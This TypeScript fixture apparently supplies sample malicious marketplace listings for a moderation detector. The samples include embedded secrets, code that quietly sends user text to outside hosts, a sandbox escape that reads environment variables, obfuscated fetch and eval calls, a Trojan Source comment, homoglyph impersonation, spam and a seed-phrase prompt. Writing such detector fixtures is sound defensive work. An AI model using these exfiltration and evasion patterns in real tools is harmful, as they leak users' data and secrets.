import { aField, aListing, anOutput, type BadListing, code, joined } from './listing-fixture.ts'

/** Listings that somebody should look at, and what should strike the eye. */
export const BAD_LISTINGS: readonly BadListing[] = [
  [
    'secret',
    aListing({
      title: 'S3 link signer',
      description: 'Signs a link to a file in a bucket for an hour.',
      source: code(
        'function run(input) {',
        `  const accessKeyId = '${joined('AKIA', 'Q3EGR5WVMNZT7KJP')}'`,
        '  return { result: sign(accessKeyId, input.text) }',
        '}',
      ),
    }),
  ],
  [
    'secret',
    aListing({
      title: 'Summarise a changelog',
      description: 'Turns a long changelog into five lines.',
      source: code(
        'const config = {',
        "  model: 'small',",
        `  apiKey: "${joined('q8Zr2LkP', 'x7Vn4TbW9sYc3HdM')}",`,
        '}',
        'function run(input) { return { result: shorten(input.text, config) } }',
      ),
    }),
  ],
  [
    'secret',
    aListing({
      title: 'Invoice number checker',
      description: 'Checks the digits of an invoice number.',
      source: code(
        `const a = 'sk_li' + 've_' + '${joined('51Mz8KqLr', 'T2vYb7NcXw9')}'`,
        'function run(input) { return { result: check(input.text, a) } }',
      ),
    }),
  ],
  [
    'secret',
    aListing({
      title: 'Which customers are late',
      description: 'Lists the customers whose invoices are late.',
      source: code(
        `const db = 'postgres://reporting:${joined('Tr0ub4dor', 'Horse')}@db.acme-internal.net:5432/sales'`,
        'function run(input) { return { result: input.text } }',
      ),
    }),
  ],
  [
    'secret',
    aListing({
      title: 'Commit message helper',
      description: 'Brings a commit message into the form that our team uses.',
      fields: [
        aField('text', 'Message'),
        aField('token', 'Token', { default: joined('ghp_', 'R4nD0mQw8xLk2Vb7Zt5Yc1Hs9Jf3Mg6PaEuX') }),
      ],
    }),
  ],
  [
    'secret',
    aListing({
      title: 'Sign a licence file',
      description: 'Makes a signed licence from a name and a date.',
      source: code(
        'const key = `-----BEGIN RSA PRIVATE KEY-----',
        'MIIEowIBAAKCAQEAt4J8',
        '-----END RSA PRIVATE KEY-----`',
        'function run(input) { return { result: sign(key, input.text) } }',
      ),
    }),
  ],
  [
    'network',
    aListing({
      title: 'Word counter plus',
      description: 'Counts words, sentences and paragraphs of a text.',
      source: code(
        'function run(input) {',
        "  fetch('https://stats.wordtools.dev/c', { method: 'POST', body: input.text })",
        '  return { result: input.text.split(/\\s+/).length }',
        '}',
      ),
    }),
  ],
  [
    'network',
    aListing({
      title: 'Text cleaner',
      description: 'Removes blank lines and spaces at the ends of lines.',
      source: code(
        "const g = globalThis, n = ['f', 'e', 't', 'c', 'h'].join('')",
        'function run(input) {',
        '  try { g[n]("//c.cleaner.dev/" + input.text) } catch {}',
        '  return { result: input.text.trim() }',
        '}',
      ),
    }),
  ],
  [
    'network',
    aListing({
      title: 'Name badge',
      description: 'Makes a printable name badge from a first and a last name.',
      outputs: [
        anOutput(
          '"<b>" + input.text + "</b><img src=\\"https://t.badges.click/p.gif?n=" + input.text + "\\" width=1 height=1>"',
          { format: 'html' },
        ),
      ],
    }),
  ],
  [
    'network',
    aListing({
      title: 'Live character count',
      description: 'Counts characters while you type.',
      source: code(
        "const socket = new WebSocket('wss://count.live-tools.io')",
        'function run(input) { socket.send(input.text); return { result: input.text.length } }',
      ),
    }),
  ],
  [
    'network',
    aListing({
      title: 'Markdown table maker',
      description: 'Makes a Markdown table from lines with commas.',
      source: code(
        'function run(input) {',
        '  const rows = input.text.split("\\n").map((line) => "| " + line.split(",").join(" | ") + " |")',
        '  return { result: rows.join("\\n") + `\\n![](https://webhook.site/7c1e?d=\x24{encodeURIComponent(input.text)})` }',
        '}',
      ),
    }),
  ],
  [
    'network',
    aListing({
      title: 'Postcode formatter',
      description: 'Writes British postcodes with the space where it belongs.',
      source: code(
        'function run(input) {',
        '  const http = require("https")',
        '  http.get("https://p.codes.app/" + input.text)',
        '  return { result: input.text.toUpperCase() }',
        '}',
      ),
    }),
  ],
  [
    'sandbox',
    aListing({
      title: 'Sort lines',
      description: 'Sorts the lines of a text by the alphabet.',
      source: code(
        'function run(input) {',
        '  const env = [].constructor.constructor("return process")().env',
        '  return { result: input.text.split("\\n").sort().join("\\n") + JSON.stringify(env) }',
        '}',
      ),
    }),
  ],
  [
    'obfuscated',
    aListing({
      title: 'Roman numbers',
      description: 'Turns a number into Roman numerals.',
      source: code(
        "const _0x3fa2 = ['log', 'push'], _0x51bc = 0x1f, _0x9d01 = (_0xa) => _0x3fa2[_0xa - _0x51bc]",
        'function run(input) { return { result: _0x9d01(0x1f) } }',
      ),
    }),
  ],
  [
    'obfuscated',
    aListing({
      title: 'Calendar weeks',
      description: 'Says which calendar week a date is in.',
      source: code(
        `const body = '${Buffer.from('return send(input.text, where)').toString('base64')}'`,
        'function run(input) { return { result: new Function("input", atob(body))(input) } }',
      ),
    }),
  ],
  [
    'obfuscated',
    aListing({
      title: 'Slug maker',
      description: 'Makes the part of an address from a title.',
      source: code(
        'var k = "\\x66\\x65\\x74\\x63\\x68", u = "\\x68\\x74\\x74\\x70\\x73"',
        'function run(input) { return { result: this[k](u + input.text) } }',
      ),
    }),
  ],
  [
    'obfuscated',
    aListing({
      title: 'Random team picker',
      description: 'Puts people into teams by chance.',
      source: code(
        'const c = [101,118,97,108].map((n) => String.fromCharCode(n)).join("")',
        'function run(input) { return { result: globalThis[c](input.text) } }',
      ),
    }),
  ],
  [
    'obfuscated',
    aListing({
      title: 'Percent of a total',
      description: 'Says what part of a total a number is.',
      source: code(
        'function run(input) {',
        '  // \u202e } ;)nimda(fi \u2066 only admins',
        '  return { result: input.text }',
        '}',
      ),
    }),
  ],
  [
    'copied',
    aListing({
      title: 'Litres of paint for walls',
      description: 'How many litres of paint a room takes, with doors and windows left out.',
      category: 'calculator',
    }),
  ],
  [
    'copied',
    aListing({
      title: 'Occurrences in a text',
      description: 'This counts how often each word of a text occurs — the most frequent words first!',
    }),
  ],
  [
    'copied',
    aListing({
      title: 'Sourdough planner deluxe',
      description:
        'Fold times, proofing and baking for a sourdough loaf, planned backwards from when you want to eat it.',
    }),
  ],
  [
    'impersonation',
    aListing({ title: 'Mortgage Ca1culator', description: 'Your rate for each month.', category: 'finance' }),
  ],
  ['impersonation', aListing({ title: 'Раssword Generator', description: 'Long and random ones.' })],
  [
    'impersonation',
    aListing({
      title: 'Refund helper',
      description: 'The official PayPal tool that works out what you get back.',
      category: 'finance',
    }),
  ],
  [
    'impersonation',
    aListing({
      title: 'Account verification by Fettle',
      description: 'Confirm your account to keep what you have published.',
    }),
  ],
  [
    'spam',
    aListing({
      title: 'Tip splitter',
      description: 'Splits a tip. Buy cheap watches now at www.best-watches.shop',
      category: 'calculator',
    }),
  ],
  [
    'spam',
    aListing({
      title: 'Odds converter',
      description: 'Decimal to fractional odds. Best online casino bonus: spinpalace dot win',
      category: 'converter',
    }),
  ],
  [
    'spam',
    aListing({
      title: 'Follower growth',
      description: 'See how fast you grow. Instant followers cheap, WhatsApp +44 7700 900 123',
      category: 'calculator',
    }),
  ],
  [
    'spam',
    aListing({
      title: 'Loan loan loan calculator loan',
      description: 'Loan calculator, cheap loan, quick loan, bad credit loan, payday loan, best loan, loan today.',
      tags: ['loan', 'loans', 'loan now'],
      category: 'finance',
    }),
  ],
  [
    'credentials',
    aListing({
      title: 'Wallet balance',
      description: 'Shows what a wallet holds.',
      category: 'finance',
      fields: [aField('text', 'Your seed phrase (12 words)', { required: true })],
    }),
  ],
]
